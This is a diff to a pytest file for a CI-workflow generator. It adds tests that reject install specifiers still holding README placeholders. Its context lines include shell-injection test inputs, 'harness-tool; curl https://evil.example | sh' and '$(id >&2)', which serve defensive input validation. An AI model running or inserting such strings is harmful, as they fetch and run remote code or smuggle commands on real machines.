@@ -72,6 +72,18 @@ def test_install_that_could_change_the_workflow_is_refused(tmp_path, install):
     assert not (tmp_path / ".github").exists()
 
 
+@pytest.mark.parametrize("install,left", [
+    ("harness @ git+https://github.com/OWNER/harness@COMMIT", "placeholders OWNER and COMMIT"),  # the README's line, pasted
+    ("--no-deps 'harness[all] @ git+https://github.com/acme/harness@COMMIT'", "placeholder COMMIT"),
+    ("git+https://github.com/OWNER/harness@v0.1", "placeholder OWNER"),  # a bare URL, not a requirement
+    ("harness@git+URL@COMMIT", "placeholder COMMIT"),  # docs/commands/ci-init.md's form
+])
+def test_install_still_holding_the_docs_placeholders_is_refused(tmp_path, install, left):
+    """Written into the workflow, the README's placeholders would fail pip in every scheduled job."""
+    one_line_error(_init(tmp_path, "--install", install), f"still holds the README's {left}:")
+    assert not (tmp_path / ".github").exists()
+
+
 @pytest.mark.parametrize("install,argv", [
     ("harness-tool; curl https://evil.example | sh", ["harness-tool;", "curl", "https://evil.example", "|", "sh"]),
     ("$(id >&2)", ["$(id", ">&2)"]),
